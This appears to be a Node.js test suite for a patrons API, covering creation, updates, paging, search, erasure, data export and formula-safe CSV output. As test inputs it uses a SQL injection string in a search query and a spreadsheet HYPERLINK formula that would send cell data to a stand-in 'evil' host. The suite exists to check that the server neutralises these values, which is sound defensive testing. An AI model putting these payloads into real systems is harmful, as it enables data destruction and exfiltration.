'use strict';
const { test, before, after, describe } = require('node:test');
const assert = require('node:assert/strict');
const crypto = require('node:crypto');
const {
  startServer, assertProblem, assertInvalid, uniqueEmail, pageAll, parseCsv, UUID_RE, RFC3339_Z_RE,
} = require('./lib/harness');

let s;
before(async () => { s = await startServer(); });
after(async () => { await s?.stop(); });

const tag = () => crypto.randomBytes(4).toString('hex');

async function create(body) {
  const r = await s.post('/v1/patrons', body);
  assert.equal(r.status, 201, `create ${JSON.stringify(body)} → ${r.status} ${r.text}`);
  return r.json;
}

function assertPatronShape(p) {
  assert.deepEqual(Object.keys(p).sort(),
    ['created_at', 'email', 'erased_at', 'id', 'locale', 'name', 'status', 'updated_at'], `patron keys: ${JSON.stringify(p)}`);
  assert.match(p.id, UUID_RE);
  assert.match(p.created_at, RFC3339_Z_RE);
  assert.match(p.updated_at, RFC3339_Z_RE);
  assert.ok(['member', 'lapsed', 'none'].includes(p.status), `status ${p.status}`);
}

describe('create', () => {
  test('POST /v1/patrons → 201 with the patron', async () => {
    const email = uniqueEmail('create');
    const r = await s.post('/v1/patrons', { email, name: 'Olena Kovalenko' });
    assert.equal(r.status, 201, r.text);
    assert.match(String(r.headers['content-type']), /^application\/json/);
    assertPatronShape(r.json);
    assert.equal(r.json.email, email);
    assert.equal(r.json.name, 'Olena Kovalenko');
    assert.equal(r.json.status, 'none');
    assert.equal(r.json.erased_at, null);
    const age = Date.now() - Date.parse(r.json.created_at);
    assert.ok(Math.abs(age) < 120000, `created_at ${r.json.created_at} is now-ish`);
    const g = await s.get(`/v1/patrons/${r.json.id}`);
    assert.equal(g.status, 200);
    assert.deepEqual(g.json, r.json);
  });

  test('name is optional', async () => {
    const p = await create({ email: uniqueEmail() });
    assert.equal(p.name, null);
  });

  test('UTF-8 names round-trip', async () => {
    const name = 'Ярослава Ґонта 🐝 "quoted" \\ back';
    const p = await create({ email: uniqueEmail(), name });
    assert.equal(p.name, name);
    const g = await s.get(`/v1/patrons/${p.id}`);
    assert.equal(g.json.name, name);
  });

  test('a duplicate email, in any case, is 409', async () => {
    const local = `dup-${tag()}`;
    await create({ email: `${local}@example.org` });
    for (const e of [`${local}@example.org`, `${local.toUpperCase()}@EXAMPLE.ORG`, `${local}@Example.Org`]) {
      const r = await s.post('/v1/patrons', { email: e });
      assertProblem(assert, r, 409, `duplicate ${e}`, 'duplicate_email');
    }
    assert.equal(await s.psql(`SELECT count(*) FROM patrons WHERE lower(email) = '${local}@example.org'`), '1');
  });

  test('invalid emails are 422 naming the email field', async () => {
    const bad = ['', 'plain', 'a@', '@example.org', 'a b@example.org', 'a@b@example.org', 'a@example..org',
      '<a@example.org>', 'a@example.org\n', `${'x'.repeat(300)}@example.org`, 'a@' + 'b'.repeat(300) + '.org'];
    for (const email of bad) {
      const r = await s.post('/v1/patrons', { email });
      assertInvalid(assert, r, 'email', `email ${JSON.stringify(email).slice(0, 60)}`);
    }
    for (const email of [123, null, true, ['a@b.org'], { a: 1 }]) {
      const r = await s.post('/v1/patrons', { email });
      assertInvalid(assert, r, 'email', `email ${JSON.stringify(email)}`);
    }
    assertInvalid(assert, await s.post('/v1/patrons', { name: 'No Email' }), 'email', 'missing email');
  });

  test('a non-string or overlong name is 422 naming the name field', async () => {
    assertInvalid(assert, await s.post('/v1/patrons', { email: uniqueEmail(), name: 42 }), 'name', 'numeric name');
    assertInvalid(assert, await s.post('/v1/patrons', { email: uniqueEmail(), name: 'n'.repeat(20000) }), 'name', '20000-char name');
  });

  test('unknown fields are 422 naming the field, and nothing is created', async () => {
    const email = uniqueEmail('unk');
    const r = await s.post('/v1/patrons', { email, is_admin: true });
    assertInvalid(assert, r, 'is_admin', 'unknown field');
    for (const f of ['status', 'id', 'erased_at', 'created_at']) {
      const r2 = await s.post('/v1/patrons', { email, [f]: f === 'status' ? 'member' : crypto.randomUUID() });
      assert.equal(r2.status, 422, `read-only field ${f} on create → ${r2.status} ${r2.text}`);
    }
    assert.equal(await s.psql(`SELECT count(*) FROM patrons WHERE email = '${email}'`), '0');
  });

  test('30 parallel creates with distinct emails all succeed', async () => {
    const t = tag();
    const rs = await Promise.all(Array.from({ length: 30 }, (_, i) =>
      s.post('/v1/patrons', { email: `par-${t}-${i}@example.org` })));
    const statuses = rs.map((r) => r.status);
    assert.deepEqual(statuses, Array(30).fill(201), `statuses: ${statuses}`);
    assert.equal(new Set(rs.map((r) => r.json.id)).size, 30);
    assert.equal(await s.psql(`SELECT count(*) FROM patrons WHERE email LIKE 'par-${t}-%'`), '30');
  });

  test('10 parallel creates with the same email: exactly one 201, the rest 409', async () => {
    const email = uniqueEmail('race');
    const rs = await Promise.all(Array.from({ length: 10 }, (_, i) =>
      s.post('/v1/patrons', { email: i % 2 ? email.toUpperCase() : email })));
    const statuses = rs.map((r) => r.status).sort();
    assert.deepEqual(statuses, [201, ...Array(9).fill(409)], `statuses: ${statuses}`);
    for (const r of rs) if (r.status === 409) assertProblem(assert, r, 409);
    assert.equal(await s.psql(`SELECT count(*) FROM patrons WHERE lower(email) = lower('${email}')`), '1');
  });
});

describe('update', () => {
  test('PATCH name and email → 200, updated_at moves', async () => {
    const p = await create({ email: uniqueEmail(), name: 'Before' });
    await new Promise((r) => setTimeout(r, 1100));
    const email2 = uniqueEmail('after');
    const r = await s.patch(`/v1/patrons/${p.id}`, { name: 'After', email: email2 });
    assert.equal(r.status, 200, r.text);
    assertPatronShape(r.json);
    assert.equal(r.json.name, 'After');
    assert.equal(r.json.email, email2);
    assert.equal(r.json.created_at, p.created_at);
    assert.ok(Date.parse(r.json.updated_at) > Date.parse(p.updated_at), 'updated_at advanced');
    const g = await s.get(`/v1/patrons/${p.id}`);
    assert.deepEqual(g.json, r.json);
  });

  test('PATCH only name leaves email untouched', async () => {
    const email = uniqueEmail();
    const p = await create({ email, name: 'A' });
    const r = await s.patch(`/v1/patrons/${p.id}`, { name: 'B' });
    assert.equal(r.status, 200, r.text);
    assert.equal(r.json.email, email);
  });

  test('PATCH email to its own address in another case is not a conflict', async () => {
    const local = `self-${tag()}`;
    const p = await create({ email: `${local}@example.org` });
    const r = await s.patch(`/v1/patrons/${p.id}`, { email: `${local.toUpperCase()}@example.org` });
    assert.equal(r.status, 200, r.text);
  });

  test('PATCH email to another patron\'s email (any case) is 409 and changes nothing', async () => {
    const a = await create({ email: uniqueEmail('a') });
    const b = await create({ email: uniqueEmail('b') });
    const r = await s.patch(`/v1/patrons/${b.id}`, { email: a.email.toUpperCase() });
    assertProblem(assert, r, 409, 'PATCH to taken email', 'duplicate_email');
    assert.equal((await s.get(`/v1/patrons/${b.id}`)).json.email, b.email);
  });

  test('PATCH validation: bad email, unknown field, read-only field → 422', async () => {
    const p = await create({ email: uniqueEmail(), name: 'Keep' });
    assertInvalid(assert, await s.patch(`/v1/patrons/${p.id}`, { email: 'nope' }), 'email', 'bad email');
    assertInvalid(assert, await s.patch(`/v1/patrons/${p.id}`, { nickname: 'x' }), 'nickname', 'unknown field');
    assertInvalid(assert, await s.patch(`/v1/patrons/${p.id}`, { email: null }), 'email', 'email null');
    const r = await s.patch(`/v1/patrons/${p.id}`, { status: 'member' });
    assert.equal(r.status, 422, `PATCH status → ${r.status} ${r.text}`);
    const g = await s.get(`/v1/patrons/${p.id}`);
    assert.equal(g.json.name, 'Keep');
    assert.equal(g.json.status, 'none');
  });

  test('a failed PATCH leaves no half-written change', async () => {
    const p = await create({ email: uniqueEmail(), name: 'Whole' });
    const r = await s.patch(`/v1/patrons/${p.id}`, { name: 'Half', email: 'bad' });
    assert.equal(r.status, 422);
    assert.equal((await s.get(`/v1/patrons/${p.id}`)).json.name, 'Whole');
  });
});

describe('list', () => {
  test('newest first, default shape {data, next_cursor}', async () => {
    const a = await create({ email: uniqueEmail('l1') });
    const b = await create({ email: uniqueEmail('l2') });
    const r = await s.get('/v1/patrons');
    assert.equal(r.status, 200, r.text);
    assert.deepEqual(Object.keys(r.json).sort(), ['data', 'next_cursor']);
    assert.ok(Array.isArray(r.json.data));
    const ids = r.json.data.map((x) => x.id);
    assert.ok(ids.indexOf(b.id) >= 0 && ids.indexOf(a.id) > ids.indexOf(b.id), 'newest first');
    for (const p of r.json.data) assertPatronShape(p);
  });

  test('limit: default 50, max 500; invalid limits are 422', async () => {
    const t = tag();
    await Promise.all(Array.from({ length: 55 }, (_, i) => s.post('/v1/patrons', { email: `lim-${t}-${i}@example.org` })));
    const d = await s.get('/v1/patrons');
    assert.equal(d.json.data.length, 50, 'default limit 50');
    assert.equal(typeof d.json.next_cursor, 'string');
    const m = await s.get('/v1/patrons?limit=500');
    assert.equal(m.status, 200);
    assert.ok(m.json.data.length > 50);
    const one = await s.get('/v1/patrons?limit=1');
    assert.equal(one.json.data.length, 1);
    for (const l of ['0', '501', '-1', 'abc', '1.5', '1e2', '50abc', '99999999999999999999']) {
      const r = await s.get(`/v1/patrons?limit=${l}`);
      assertInvalid(assert, r, 'limit', `limit=${l}`);
    }
  });

  test('paging with ?after= yields every patron exactly once, newest first', async () => {
    const all = await pageAll(s, '/v1/patrons', { limit: 7 });
    const ids = all.map((p) => p.id);
    assert.equal(new Set(ids).size, ids.length, 'no duplicates across pages');
    const dbIds = (await s.psql('SELECT id FROM patrons ORDER BY seq DESC')).split('\n');
    // newest first is the order of creation; created_at (the creating
    // transaction's start, to the second) may disagree by a second between
    // patrons created concurrently, as the previous test does
    assert.deepEqual(ids, dbIds, 'pages = all patrons, newest first');
    const last = await s.get(`/v1/patrons?limit=${dbIds.length}`);
    assert.equal(last.json.next_cursor, null, 'no next_cursor when everything fits');
  });

  test('a cursor stays valid while new patrons are created', async () => {
    const p1 = await s.get('/v1/patrons?limit=3');
    const cursor = p1.json.next_cursor;
    await create({ email: uniqueEmail('during') });
    const p2 = await s.get(`/v1/patrons?limit=3&after=${encodeURIComponent(cursor)}`);
    assert.equal(p2.status, 200);
    const seen = new Set(p1.json.data.map((x) => x.id));
    for (const x of p2.json.data) assert.ok(!seen.has(x.id), 'page 2 repeats page 1');
  });

  test('?q= searches email and name, case-insensitively; % and _ are literal', async () => {
    const t = tag();
    const pct = await create({ email: uniqueEmail(), name: `100% Pure ${t}` });
    const under = await create({ email: `under_${t}@example.org` });
    const other = await create({ email: `underx${t}@example.org`, name: `100x Pure ${t}` });
    const byName = await create({ email: uniqueEmail(), name: `Mykola ${t.toUpperCase()}` });

    const ids = async (q) => {
      const r = await s.get(`/v1/patrons?q=${encodeURIComponent(q)}&limit=500`);
      assert.equal(r.status, 200, `q=${q}: ${r.text}`);
      return r.json.data.map((x) => x.id).sort();
    };
    assert.deepEqual(await ids(`% pure ${t}`), [pct.id], 'q with % is literal');
    assert.deepEqual(await ids(`under_${t}`), [under.id], 'q with _ is literal');
    assert.deepEqual(await ids(`mykola ${t}`), [byName.id], 'name, case-insensitive');
    assert.deepEqual(await ids(`UNDER_${t.toUpperCase()}@EXAMPLE`), [under.id], 'email, case-insensitive');
    assert.deepEqual(await ids(`pure ${t}`), [pct.id, other.id].sort(), 'substring');
    assert.deepEqual(await ids(`no-such-${t}`), []);
    assert.deepEqual(await ids(`'; DROP TABLE patrons; --`), []);
    const bs = await s.get(`/v1/patrons?q=${encodeURIComponent('\\')}&limit=500`);
    assert.equal(bs.status, 200, `q=\\ → ${bs.status} ${bs.text}`);
    for (const x of bs.json.data) assert.ok(`${x.email}${x.name}`.includes('\\'), `q=\\ matched ${x.email} ${x.name}`);
    const bs2 = await s.get(`/v1/patrons?q=${encodeURIComponent('\\%')}&limit=500`);
    assert.equal(bs2.status, 200, `q=\\% → ${bs2.status} ${bs2.text}`);
    assert.deepEqual(bs2.json.data, []);
  });

  test('?status= filters; an unknown status is 422', async () => {
    const p = await create({ email: uniqueEmail('st') });
    const none = await pageAll(s, '/v1/patrons?status=none', { limit: 500 });
    assert.ok(none.some((x) => x.id === p.id));
    assert.ok(none.every((x) => x.status === 'none'));
    for (const st of ['member', 'lapsed']) {
      const r = await s.get(`/v1/patrons?status=${st}`);
      assert.equal(r.status, 200);
      assert.ok(r.json.data.every((x) => x.status === st), `status=${st} returns only ${st}`);
      assert.ok(!r.json.data.some((x) => x.id === p.id));
    }
    for (const st of ['active', 'MEMBER', '', 'none,member']) {
      assertInvalid(assert, await s.get(`/v1/patrons?status=${encodeURIComponent(st)}`), 'status', `status=${st}`);
    }
  });
});

describe('erasure (DELETE)', () => {
  test('DELETE → 204; personal fields are null, erased_at set; the ledger stays', async () => {
    const email = uniqueEmail('erase');
    const p = await create({ email, name: 'Erase Me' });
    const pl = await s.post('/v1/pledges', {
      patron_id: p.id, amount_minor: 1234, currency: 'UAH', interval: 'month', provider: 'manual', status: 'active',
    });
    assert.equal(pl.status, 201, pl.text);

    const d = await s.del(`/v1/patrons/${p.id}`);
    assert.equal(d.status, 204, d.text);
    assert.equal(d.text, '', '204 has no body');

    const g = await s.get(`/v1/patrons/${p.id}`);
    assert.equal(g.status, 200, g.text);
    assert.equal(g.json.email, null);
    assert.equal(g.json.name, null);
    assert.match(String(g.json.erased_at), RFC3339_Z_RE);

    const gp = await s.get(`/v1/pledges/${pl.json.id}`);
    assert.equal(gp.status, 200, 'pledge survives erasure');
    assert.equal(gp.json.amount_minor, 1234);
    assert.equal(gp.json.patron_id, p.id);

    // the personal data is gone from the database, not just hidden
    assert.equal(await s.psql(`SELECT count(*) FROM patrons WHERE email ILIKE '%${email.split('@')[0]}%' OR name = 'Erase Me'`), '0');
    // and it is not searchable
    const q = await s.get(`/v1/patrons?q=${encodeURIComponent(email)}`);
    assert.equal(q.json.data.length, 0);
    const q2 = await s.get(`/v1/patrons?q=${encodeURIComponent('Erase Me')}`);
    assert.equal(q2.json.data.length, 0);
  });

  test('the erased email can be used by a new patron', async () => {
    const email = uniqueEmail('reuse');
    const p = await create({ email });
    assert.equal((await s.del(`/v1/patrons/${p.id}`)).status, 204);
    const again = await s.post('/v1/patrons', { email });
    assert.equal(again.status, 201, again.text);
    assert.notEqual(again.json.id, p.id);
  });

  test('erasing twice does not fail with 5xx and keeps the patron erased', async () => {
    const p = await create({ email: uniqueEmail() });
    assert.equal((await s.del(`/v1/patrons/${p.id}`)).status, 204);
    const d2 = await s.del(`/v1/patrons/${p.id}`);
    assert.ok([204, 404, 409, 410].includes(d2.status), `second DELETE → ${d2.status} ${d2.text}`);
    const g = await s.get(`/v1/patrons/${p.id}`);
    assert.equal(g.json.email, null);
  });

  test('an erased patron cannot be given personal data again via PATCH', async () => {
    const p = await create({ email: uniqueEmail() });
    assert.equal((await s.del(`/v1/patrons/${p.id}`)).status, 204);
    const r = await s.patch(`/v1/patrons/${p.id}`, { name: 'Back' });
    assert.ok(r.status >= 400 && r.status < 500, `PATCH erased patron → ${r.status} ${r.text}`);
    assert.equal((await s.get(`/v1/patrons/${p.id}`)).json.name, null);
  });
});

describe('export', () => {
  test('GET /v1/patrons/{id}/export → {patron, pledges, payments}', async () => {
    const p = await create({ email: uniqueEmail('exp'), name: 'Export Me' });
    const pl = await s.post('/v1/pledges', {
      patron_id: p.id, amount_minor: 500, currency: 'EUR', interval: 'year', provider: 'manual',
    });
    assert.equal(pl.status, 201, pl.text);
    const r = await s.get(`/v1/patrons/${p.id}/export`);
    assert.equal(r.status, 200, r.text);
    assert.match(String(r.headers['content-type']), /json/);
    assert.equal(r.json.patron.id, p.id);
    assert.equal(r.json.patron.email, p.email);
    assert.ok(Array.isArray(r.json.pledges));
    assert.ok(Array.isArray(r.json.payments));
    assert.deepEqual(r.json.pledges.map((x) => x.id), [pl.json.id]);
    assert.equal(r.json.pledges[0].amount_minor, 500);
    assert.deepEqual(r.json.payments, []);
  });

  test('export only contains that patron\'s data', async () => {
    const a = await create({ email: uniqueEmail() });
    const b = await create({ email: uniqueEmail() });
    const pl = await s.post('/v1/pledges', { patron_id: b.id, amount_minor: 700, currency: 'USD', interval: 'month', provider: 'manual' });
    assert.equal(pl.status, 201);
    const r = await s.get(`/v1/patrons/${a.id}/export`);
    assert.equal(r.status, 200);
    assert.deepEqual(r.json.pledges, []);
    assert.ok(!r.text.includes(b.email));
  });
});

describe('CSV', () => {
  test('Accept: text/csv streams every patron with formula-safe RFC 4180 cells', async () => {
    const t = tag();
    const names = {
      comma: `Doe, Jane ${t}`,
      quote: `The "Boss" ${t}`,
      formulaEq: `=HYPERLINK("http://evil/?"&A1,"x") ${t}`,
      formulaPlus: `+380 ${t}`,
      formulaMinus: `-2+3 ${t}`,
      formulaAt: `@SUM(A1) ${t}`,
      unicode: `Ганна ${t}`,
    };
    const made = {};
    for (const [k, name] of Object.entries(names)) made[k] = await create({ email: uniqueEmail(k.toLowerCase()), name });
    const nl = await s.post('/v1/patrons', { email: uniqueEmail('nl'), name: `Line1\nLine2 ${t}` });
    if (nl.status === 201) { names.newline = `Line1\nLine2 ${t}`; made.newline = nl.json; }
    const erased = await create({ email: uniqueEmail('gone'), name: 'Gone' });
    assert.equal((await s.del(`/v1/patrons/${erased.id}`)).status, 204);

    const r = await s.get('/v1/patrons', { headers: { Accept: 'text/csv' } });
    assert.equal(r.status, 200, r.text.slice(0, 300));
    assert.match(String(r.headers['content-type']), /^text\/csv/);
    const rows = parseCsv(r.text);
    assert.deepEqual(rows[0], ['id', 'email', 'name', 'status', 'created_at'], `header row: ${JSON.stringify(rows[0])}`);
    const body = rows.slice(1);
    for (const row of body) assert.equal(row.length, 5, `row has 5 cells: ${JSON.stringify(row)}`);
    const total = Number(await s.psql('SELECT count(*) FROM patrons'));
    assert.equal(body.length, total, 'one row per patron (all of them, not one page)');
    const byId = new Map(body.map((row) => [row[0], row]));
    assert.equal(byId.size, total, 'ids unique');

    const expectCell = (v) => (/^[=+\-@]/.test(v) ? `'${v}` : v);
    for (const [k, name] of Object.entries(names)) {
      const row = byId.get(made[k].id);
      assert.ok(row, `row for ${k}`);
      assert.equal(row[1], made[k].email, `${k} email`);
      assert.equal(row[2], expectCell(name), `${k} name cell`);
      assert.equal(row[3], 'none');
      assert.match(row[4], RFC3339_Z_RE);
    }
    const er = byId.get(erased.id);
    assert.ok(er, 'erased patron still listed');
    assert.equal(er[1], '');
    assert.equal(er[2], '');
  });

  test('a CSV export of several pages is whole while other requests run', async () => {
    const t = tag();
    await s.psql(`INSERT INTO patrons (email, name)
                  SELECT 'page-' || g || '-${t}@example.org', 'Paged ${t}' FROM generate_series(1, 1300) g`);
    // pages after the first are read while the body drains; other requests
    // keep the handler threads busy meanwhile
    const [r, ...others] = await Promise.all([
      s.get(`/v1/patrons?q=${encodeURIComponent(`paged ${t}`)}`, { headers: { Accept: 'text/csv' } }),
      ...Array.from({ length: 30 }, () => s.get('/v1/patrons?limit=3')),
    ]);
    assert.equal(r.status, 200, r.text.slice(0, 300));
    for (const o of others) assert.equal(o.status, 200, o.text);
    const rows = parseCsv(r.text).slice(1);
    assert.equal(rows.length, 1300, 'every patron once, across three pages');
    assert.equal(new Set(rows.map((row) => row[0])).size, 1300, 'no row twice');
    for (const row of rows) assert.equal(row[2], `Paged ${t}`);
  });

  test('CSV honours ?q=', async () => {
    const t = tag();
    const p = await create({ email: uniqueEmail(), name: `CsvOnly ${t}` });
    const r = await s.get(`/v1/patrons?q=${encodeURIComponent(`csvonly ${t}`)}`, { headers: { Accept: 'text/csv' } });
    assert.equal(r.status, 200);
    const rows = parseCsv(r.text);
    assert.equal(rows.length, 2, r.text);
    assert.equal(rows[1][0], p.id);
  });

  test('CSV needs credentials too', async () => {
    const r = await s.request('GET', '/v1/patrons', { headers: { Accept: 'text/csv' } });
    assert.equal(r.status, 401);
  });
});
